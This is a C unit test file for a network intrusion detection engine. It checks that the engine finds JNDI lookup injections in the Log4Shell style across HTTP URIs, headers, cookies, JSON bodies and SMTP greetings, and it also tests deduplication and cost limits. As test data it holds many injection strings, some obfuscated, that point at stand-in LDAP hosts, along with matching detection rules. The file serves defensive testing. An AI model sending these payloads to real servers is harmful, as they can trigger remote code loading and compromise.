/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "detect/detect.h"
#include "base/buf.h"
#include "base/count.h"
#include "support/sighted.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

static const char rules_text[] =
    "alert ip any any -> any any (msg:\"lookup\"; jndi.stage; content:\"lookup\"; sid:1;)\n"
    "alert ip any any -> any any (msg:\"search\"; ldap.client; content:\"jndi\"; sid:2;)\n"
    "alert ip any any -> any any (msg:\"raw\"; priority:1; jndi.raw; content:\"%24{\"; nocase; startswith; "
    "content:\"%7d\"; nocase; endswith; sid:3;)\n";

static struct config *config;
static struct ruleset *rules;
static struct detect *detect;

/* What the last findings said. */
static struct seen {
    unsigned n;
    uint32_t sid;
    char name[256], raw[256], decoded[256], location[64], techniques[256], payload[256];
    char field[64], key[64], part[64];
} seen;

static void copy(char *to, size_t room, struct bytes from)
{
    size_t n = from.len < room - 1 ? from.len : room - 1;

    if (n)
        memcpy(to, from.p, n);
    to[n] = 0;
}

static void on_finding(void *arg, const struct finding *f)
{
    (void)arg;
    seen.n++;
    seen.sid = f->rule->sid;
    copy(seen.name, sizeof seen.name, attrs_get(f->attrs, ATTR_JNDI_NAME));
    copy(seen.location, sizeof seen.location, attrs_get(f->attrs, ATTR_JNDI_LOCATION));
    copy(seen.field, sizeof seen.field, f->field->name);
    copy(seen.key, sizeof seen.key, attrs_get(f->attrs, ATTR_JNDI_KEY));
    copy(seen.part, sizeof seen.part, attrs_get(f->attrs, ATTR_JNDI_PART));
    copy(seen.raw, sizeof seen.raw, f->raw);
    copy(seen.payload, sizeof seen.payload, f->payload);
    copy(seen.decoded, sizeof seen.decoded, f->decoded);
    for (unsigned i = 0; i < f->attrs->n; i++)
        if (f->attrs->v[i].id == ATTR_JNDI_TECHNIQUE) {
            strncat(seen.techniques, (const char *)f->attrs->v[i].value.p, f->attrs->v[i].value.len);
            strcat(seen.techniques, " ");
        }
}

static int set_up(void **state)
{
    struct complaint why = {{0}};

    (void)state;
    config = config_new();
    assert_non_null(config);
    rules = ruleset_new(config, &why);
    assert_non_null(rules);
    if (!rules_all_added(rules, "test", bytes_str(rules_text), &why))
        fail_msg("%s", why.text);
    detect = detect_new(config, rules, on_finding, NULL, &why);
    if (!detect)
        fail_msg("%s", why.text);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    detect_free(detect);
    ruleset_free(rules);
    config_free(config);
    return 0;
}

/* A flow with one field after the other. */
static struct flow flow;
static struct chunk chunk;
static struct field field;

static int new_flow(void **state)
{
    (void)state;
    flow = (struct flow){.id = 1, .proto = PROTO_TCP};
    chunk = (struct chunk){.flow = &flow};
    field = (struct field){
        .kind = FIELD_HTTP_URI, .chunk = &chunk, .app_proto = "http", .first = true, .last = true};
    seen = (struct seen){0};
    count_reset();
    return 0;
}

static int end_flow(void **state)
{
    (void)state;
    detect_flow_end(detect, &flow);
    assert_null(flow.detect_slot);
    return 0;
}

static size_t give(struct bytes value)
{
    field.value = value;
    return detect_field(detect, &field);
}

static void a_text_is_resolved(void **state)
{
    (void)state;
    field.coding = FIELD_URI;
    give(BYTES_LIT("/q?x=%24%7B${::-j}ndi:ldap://h.example/a%7D"));
    assert_int_equal(seen.n, 1);
    assert_int_equal(seen.sid, 1);
    assert_string_equal(seen.name, "ldap://h.example/a");
    assert_string_equal(seen.location, "http.uri");
    assert_string_equal(seen.decoded, "${${::-j}ndi:ldap://h.example/a}");
    assert_string_equal(seen.raw, "%24%7B${::-j}ndi:ldap://h.example/a%7D");
    assert_string_equal(seen.techniques, "nested default-value form ");
}

/* jndi.raw is the text as it came, disguise and all. */
static void the_raw_text_is_a_buffer(void **state)
{
    (void)state;
    field.coding = FIELD_URI;
    give(BYTES_LIT("/q?x=%24{jndi:ldap://h.example/a%7d&y=1"));
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.name, "ldap://h.example/a");
    assert_int_equal(seen.sid, 3);
}

/* Another version of a request belongs to no message that could be told: what the flow has shown already is
 * no news in it, and what it shows is said once, whatever comes after. */
static void another_version_is_no_second_alert(void **state)
{
    (void)state;
    field.message = 3;
    give(BYTES_LIT("/${jndi:ldap://h.example/a}"));
    assert_int_equal(seen.n, 1);
    chunk.alternative = true;
    field.kind = FIELD_RAW;
    field.message = 0;
    give(BYTES_LIT("GET /${jndi:ldap://h.example/a} HTTP/1.1"));
    assert_int_equal(seen.n, 1);
    give(BYTES_LIT("GET /${jndi:ldap://h.example/other} HTTP/1.1"));
    assert_int_equal(seen.n, 2);
    give(BYTES_LIT("GET /${jndi:ldap://h.example/other} HTTP/1.1"));
    assert_int_equal(seen.n, 2);
    assert_int_equal(counters[COUNT_DETECT_REPEATS], 2);
}

/* A server that greets with the client's name, a caller's name in each answer: told once. What only the
 * server says, and what the client says in another message, is told. */
static void an_echo_is_no_second_alert(void **state)
{
    (void)state;
    field.kind = FIELD_SMTP_HELO;
    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
    assert_int_equal(seen.n, 1);
    chunk.side = 1;
    field.kind = FIELD_RAW;
    give(BYTES_LIT("250 mail Hello ${jndi:${lower:L}dap://h.example/a}\r\n"));
    field.message = 7;
    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
    assert_int_equal(seen.n, 1);
    assert_int_equal(counters[COUNT_DETECT_REPEATS], 2);
    give(BYTES_LIT("${jndi:ldap://h.example/b}"));
    assert_int_equal(seen.n, 2);
    chunk.side = 0;
    give(BYTES_LIT("${jndi:ldap://h.example/b}"));
    assert_int_equal(seen.n, 3);
    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
    assert_int_equal(seen.n, 4);
}

static void head_parts(const struct field *head, field_fn *fn, void *arg)
{
    struct field part = *head;

    part.parts = NULL;
    part.kind = FIELD_HTTP_REQUEST_HEADER;
    part.name = BYTES_LIT("X");
    part.value = bytes_from(head->value, strlen("GET / HTTP/1.1\r\nX: "));
    fn(arg, &part);
}

/* A head is taken apart when it is marked; the alert shows the whole of it. */
static void a_head_is_the_payload_of_its_parts(void **state)
{
    static const char head[] = "GET / HTTP/1.1\r\nX: ${jndi:ldap://h/a}";

    (void)state;
    field.kind = FIELD_HTTP_REQUEST_HEAD;
    field.parts = head_parts;
    give(bytes_str(head));
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.location, "http.request_header");
    assert_string_equal(seen.raw, "${jndi:ldap://h/a}");
    assert_string_equal(seen.payload, head);
}

static void one_lookup_in_one_request_is_one_finding(void **state)
{
    (void)state;
    field.kind = FIELD_HTTP_REQUEST_HEADER;
    give(BYTES_LIT("${jndi:ldap://h/a}"));
    give(BYTES_LIT("${jndi:ldap://h/a}"));
    assert_int_equal(seen.n, 1);
    assert_int_equal(counters[COUNT_DETECT_REPEATS], 1);
    give(BYTES_LIT("${jndi:ldap://h/b}"));
    assert_int_equal(seen.n, 2);
    field.message = 1;
    give(BYTES_LIT("${jndi:ldap://h/a}"));
    assert_int_equal(seen.n, 3);
}

/* A body split anywhere, even byte by byte, is one finding, as soon as its last byte is there. */
static void a_window_is_resolved_wherever_it_is_split(void **state)
{
    static const char body[] = "some text ${${lower:j}ndi:ldap://h.example/a} and more";
    size_t len = sizeof body - 1, due = strlen("some text ${${lower:j}ndi:ldap://h.example/a}");

    (void)state;
    field.kind = FIELD_HTTP_REQUEST_BODY;
    for (size_t step = 1; step <= len; step++) {
        size_t keep = 0, end = 0;

        field.message++;
        seen = (struct seen){0};
        while (end < len) {
            size_t from = end > keep ? end - keep : 0;

            field.first = end == 0;
            field.fresh = end - from;
            end = end + step < len ? end + step : len;
            field.last = end == len;
            keep = give(bytes_of(body + from, end - from));
            if (end < due)
                assert_int_equal(seen.n, 0);
            else
                assert_int_equal(seen.n, 1);
        }
        assert_string_equal(seen.name, "ldap://h.example/a");
    }
}

/* What a long hostile window costs is bounded by its bytes: this would take minutes otherwise. */
static void a_hostile_window_stays_cheap(void **state)
{
    size_t len = 60000, keep = 0, end = 0;
    uint8_t *body = malloc(len);

    (void)state;
    assert_non_null(body);
    for (size_t i = 0; i < len; i++)
        body[i] = (uint8_t) "${a:}"[i % 5];
    field.kind = FIELD_RAW;
    while (end < len) {
        size_t from = end > keep ? end - keep : 0;

        field.first = end == 0;
        field.fresh = end - from;
        end++;
        field.last = end == len;
        keep = give(bytes_of(body + from, end - from));
        assert_true(keep <= 32768);
    }
    assert_int_equal(seen.n, 0);
    free(body);
}

/* Gives a text piece by piece, the end by itself, as bodies come. */
static void give_window(struct bytes text, size_t step)
{
    size_t keep = 0, end = 0;

    do {
        size_t from = end > keep ? end - keep : 0;

        field.first = end == 0;
        field.fresh = end - from;
        field.last = end == text.len;
        end = end + step < text.len ? end + step : text.len;
        keep = give(bytes_of(text.p + from, end - from));
    } while (!field.last);
    field.message++;
}

/* An expression that is never closed keeps other readings waiting: until the end, or until the text would be
 * gone. */
static void a_reading_that_waits_gets_its_turn(void **state)
{
    struct buf text = buf_within(200000);

    (void)state;
    field.kind = FIELD_HTTP_REQUEST_BODY;
    give_window(BYTES_LIT("%24%7Bjndi:ldap://h/a%7D ${ "), 1000);
    assert_int_equal(seen.n, 1);
    buf_add_str(&text, "%24%7Bjndi:ldap://h/a%7D ${ ");
    while (buf_add_str(&text, "xxxxxxxxxx"))
        ;
    for (size_t step = 1000; step < 9000; step += 700) {
        seen.n = 0;
        give_window(buf_bytes(&text), step);
        assert_int_equal(seen.n, 1);
    }
    buf_drop(&text);
}

/* What was sent small and became large does not pay for being looked at all over. It is told of; and where
 * nothing was looked at before, what comes late is found. */
static void a_packed_text_pays_by_what_was_sent(void **state)
{
    struct buf text = buf_within(1000000);
    uint64_t fields;

    (void)state;
    field.kind = FIELD_HTTP_REQUEST_BODY;
    field.wire = 3000;
    while (text.len < 900000)
        buf_add_str(&text, "${a:b ${c");
    give_window(buf_bytes(&text), 16384);
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.techniques, "budget ");
    fields = counters[COUNT_DETECT_TRIGGERS];
    field.wire = 0;
    give_window(buf_bytes(&text), 16384);
    assert_true(counters[COUNT_DETECT_TRIGGERS] - fields > 4 * fields);
    seen = (struct seen){0};
    field.wire = 3000;
    buf_clear(&text);
    while (text.len < 900000)
        buf_add_str(&text, "nothing at all ");
    buf_add_str(&text, "${jndi:ldap://h/a}");
    give_window(buf_bytes(&text), 16384);
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.name, "ldap://h/a");
    buf_drop(&text);
}

/* More than a flow remembers by name: what is settled is not looked at again with what comes behind it. */
static void a_stream_of_lookups_tells_each_once(void **state)
{
    struct buf text = buf_within(20000);
    size_t line;

    (void)state;
    field.kind = FIELD_RAW;
    for (unsigned i = 0; i < 200; i++)
        buf_addf(&text, "hello ${jndi:ldap://h/%03u} and on\n", i);
    line = text.len / 200;
    for (size_t lines = 1; lines <= 16; lines *= 2) {
        seen = (struct seen){0};
        give_window(buf_bytes(&text), lines * line);
        assert_int_equal(seen.n, 200);
    }
    buf_drop(&text);
}

/* The place of a lookup is known however far in it is, and however the body came. */
static void a_long_body_says_where(void **state)
{
    struct buf text = buf_within(200000);

    (void)state;
    field.kind = FIELD_HTTP_REQUEST_BODY;
    field.coding = FIELD_JSON;
    buf_add_str(&text, "{\"pad\":[0");
    while (text.len < 100000)
        buf_add_str(&text, ",{\"a b\":\"${x}\"}");
    buf_add_str(&text, "],\"user\":{\"name\":\"${jndi:ldap://h/a}\"}}");
    for (size_t step = 300; step < 100000; step = step * 3 + 1) {
        seen = (struct seen){0};
        give_window(buf_bytes(&text), step);
        assert_int_equal(seen.n, 1);
        assert_string_equal(seen.field, "$.user.name");
        assert_string_equal(seen.part, "value");
    }
    buf_drop(&text);
}

static void a_cookie_is_a_key(void **state)
{
    (void)state;
    field.kind = FIELD_HTTP_REQUEST_HEADER;
    field.coding = FIELD_COOKIE;
    field.name = BYTES_LIT("Cookie");
    give(BYTES_LIT("a=1; sid=%24%7bjndi:ldap://h/a%7d"));
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.field, "Cookie");
    assert_string_equal(seen.key, "sid");
    assert_string_equal(seen.part, "value");
    field.coding = FIELD_PLAIN;
    field.name = BYTES_LIT("User-Agent");
    field.message++;
    give(BYTES_LIT("${jndi:ldap://h/a}"));
    assert_string_equal(seen.field, "User-Agent");
}

static void give_headers(const struct field *head, field_fn *fn, void *arg)
{
    size_t lf = bytes_find_byte(head->value, '\n');
    struct field part = *head;

    part.parts = NULL;
    part.kind = FIELD_HTTP_REQUEST_HEADER;
    part.value = bytes_slice(head->value, 0, lf);
    fn(arg, &part);
    part.value = bytes_from(head->value, lf + 1);
    fn(arg, &part);
}

/* Who logs all headers in one message puts it together. */
static void a_lookup_over_two_headers_is_found(void **state)
{
    (void)state;
    field.kind = FIELD_HTTP_REQUEST_HEAD;
    field.parts = give_headers;
    give(BYTES_LIT("A: ${jndi:ldap://h/a\nB: }"));
    assert_int_equal(seen.n, 1);
    assert_string_equal(seen.location, "http.request_head");
    field.message++;
    give(BYTES_LIT("A: ${jndi:ldap://h/a}\nB: }"));
    assert_int_equal(seen.n, 2);
    assert_string_equal(seen.location, "http.request_header");
}

static void harmless_text_is_silent(void **state)
{
    static const char *const texts[] = {
        "`${a.b}/${c}`",       "${spring.x:y}", "jndi:ldap://h/a", "$${jndi:ldap://h/a}", "",
        "{{jndi:ldap://h/a}}", "${jndi"};

    (void)state;
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        give(bytes_str(texts[i]));
    assert_int_equal(seen.n, 0);
}

static void a_fact_is_asked_of_the_rules(void **state)
{
    struct attrs attrs = {0};

    (void)state;
    attrs_add(&attrs, ATTR_LDAP_CLIENT, BYTES_LIT("jndi"));
    field.kind = FIELD_FACT;
    field.app_proto = "ldap";
    field.attrs = &attrs;
    give(BYTES_LIT("pdu"));
    assert_int_equal(seen.n, 1);
    assert_int_equal(seen.sid, 2);
    attrs.v[0].value = BYTES_LIT("other");
    give(BYTES_LIT("pdu"));
    assert_int_equal(seen.n, 1);
}

int main(void)
{
#define IN_A_FLOW(f) cmocka_unit_test_setup_teardown(f, new_flow, end_flow)
    const struct CMUnitTest tests[] = {
        IN_A_FLOW(a_text_is_resolved),
        IN_A_FLOW(the_raw_text_is_a_buffer),
        IN_A_FLOW(another_version_is_no_second_alert),
        IN_A_FLOW(an_echo_is_no_second_alert),
        IN_A_FLOW(a_head_is_the_payload_of_its_parts),
        IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
        IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
        IN_A_FLOW(a_hostile_window_stays_cheap),
        IN_A_FLOW(a_stream_of_lookups_tells_each_once),
        IN_A_FLOW(a_reading_that_waits_gets_its_turn),
        IN_A_FLOW(a_packed_text_pays_by_what_was_sent),
        IN_A_FLOW(a_long_body_says_where),
        IN_A_FLOW(a_cookie_is_a_key),
        IN_A_FLOW(a_lookup_over_two_headers_is_found),
        IN_A_FLOW(harmless_text_is_silent),
        IN_A_FLOW(a_fact_is_asked_of_the_rules),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
